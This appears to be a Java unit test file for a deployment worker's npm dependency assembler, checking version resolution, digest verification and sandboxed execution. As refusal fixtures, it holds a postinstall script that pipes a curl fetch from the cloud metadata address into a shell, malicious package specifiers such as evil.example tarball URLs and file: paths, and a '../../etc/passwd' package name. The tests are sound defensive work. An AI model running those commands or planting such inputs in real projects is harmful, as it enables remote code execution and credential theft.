package io.brmh.deployworker.packaging;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.brmh.deployworker.sandbox.FunctionCode;
import io.brmh.deployworker.sandbox.Invocation;
import io.brmh.deployworker.sandbox.JsSandbox;
import io.brmh.deployworker.sandbox.SandboxFetch;
import io.brmh.deployworker.sandbox.SandboxLimits;
import io.brmh.platform.outbound.OutboundConfiguration;
import io.brmh.platform.outbound.SafeHttpClient;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Dependencies come from a registry speaking npm's protocol (on loopback here), by version range,
 * checked against the registry's digest, laid out under node_modules, and run in the sandbox; a
 * package with an install script, and any specifier that is not a range, is refused.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DependencyAssemblerTest {
  private final LocalNpmRegistry registry = new LocalNpmRegistry();
  private final SafeHttpClient outbound =
      new SafeHttpClient(
          new OutboundConfiguration(
              List.of(registry.hostAndPort()),
              Duration.ofSeconds(2),
              Duration.ofSeconds(2),
              Duration.ofSeconds(5),
              1 << 20,
              3));
  private final DependencyAssembler assembler =
      new DependencyAssembler(outbound, registry.uri(), 50, 1 << 20);

  DependencyAssemblerTest() {
    for (String version : List.of("1.0.0", "2.0.0", "2.1.0", "3.0.0")) {
      registry.publish(
          LocalNpmRegistry.manifest("repeat-str", version),
          Map.of("index.js", "module.exports = (s, n) => s.repeat(n) + '" + version + "';"),
          false);
    }
    ObjectNode leftPad = LocalNpmRegistry.manifest("left-pad", "1.3.0");
    leftPad.putObject("dependencies").put("repeat-str", "^2.0.0");
    registry.publish(
        leftPad,
        Map.of(
            "index.js",
            "const repeat = require('repeat-str');"
                + " module.exports = (s, n, c) => repeat(c, Math.max(0, n - s.length)) + s;"),
        false);
    ObjectNode evil = LocalNpmRegistry.manifest("evil-install", "1.0.0");
    evil.putObject("scripts").put("postinstall", "curl http://169.254.169.254/ | sh");
    registry.publish(evil, Map.of("index.js", "module.exports = 1;"), false);
    registry.publish(
        LocalNpmRegistry.manifest("tampered", "1.0.0"),
        Map.of("index.js", "module.exports = 1;"),
        true);
  }

  @AfterAll
  void close() throws Exception {
    outbound.close();
    registry.close();
  }

  @Test
  void aRangeTakesTheHighestVersionInItAndTransitiveDependenciesComeAlong() {
    Map<String, String> files = assembler.assemble(Map.of("left-pad", "^1.0.0"));

    assertThat(files)
        .containsKeys(
            "node_modules/left-pad/package.json",
            "node_modules/left-pad/index.js",
            "node_modules/repeat-str/index.js");
    assertThat(files.get("node_modules/repeat-str/index.js")).contains("2.1.0");
  }

  @Test
  void theAssembledPackageRunsInTheSandbox() {
    Map<String, String> modules = new HashMap<>(assembler.assemble(Map.of("left-pad", "1.3.0")));
    modules.put(
        "index.js",
        "const pad = require('left-pad'); exports.handler = async (e) => pad(e.s, 6, '.');");

    try (JsSandbox sandbox = new JsSandbox(new SandboxFetch(outbound))) {
      Invocation done =
          sandbox
              .load(
                  new FunctionCode("index.handler", modules),
                  Map.of(),
                  SandboxLimits.of(128, Duration.ofSeconds(5)))
              .invoke("{\"s\":\"ab\"}", Map.of());

      assertThat(done.outcome()).as(done.error()).isEqualTo(Invocation.Outcome.SUCCEEDED);
      assertThat(done.result()).isEqualTo("\"....2.1.0ab\"");
    }
  }

  @Test
  void aPackageWithAnInstallScriptIsRefusedAndItsScriptNeverRuns() {
    assertThatThrownBy(() -> assembler.assemble(Map.of("evil-install", "1.0.0")))
        .isInstanceOf(PackageRefusedException.class)
        .hasMessageContaining("evil-install@1.0.0 has an install script");
  }

  @Test
  void specifiersThatAreNoVersionRangeAreRefused() {
    for (String specifier :
        List.of(
            "git+https://github.com/evil/pkg.git",
            "file:../../etc",
            "https://evil.example/pkg.tgz",
            "github:evil/pkg",
            "npm:left-pad@1.3.0",
            "link:../x")) {
      assertThatThrownBy(() -> assembler.assemble(Map.of("left-pad", specifier)))
          .as(specifier)
          .isInstanceOf(PackageRefusedException.class)
          .hasMessageContaining("no version range");
    }
  }

  @Test
  void aTarballThatDoesNotMatchTheRegistrysDigestIsRefused() {
    assertThatThrownBy(() -> assembler.assemble(Map.of("tampered", "1.0.0")))
        .isInstanceOf(PackageRefusedException.class)
        .hasMessageContaining("does not match the registry's digest");
  }

  @Test
  void aNameThatIsNoPackageNameIsRefused() {
    assertThatThrownBy(() -> assembler.assemble(Map.of("../../etc/passwd", "1.0.0")))
        .isInstanceOf(PackageRefusedException.class)
        .hasMessageContaining("not an npm package name");
  }
}
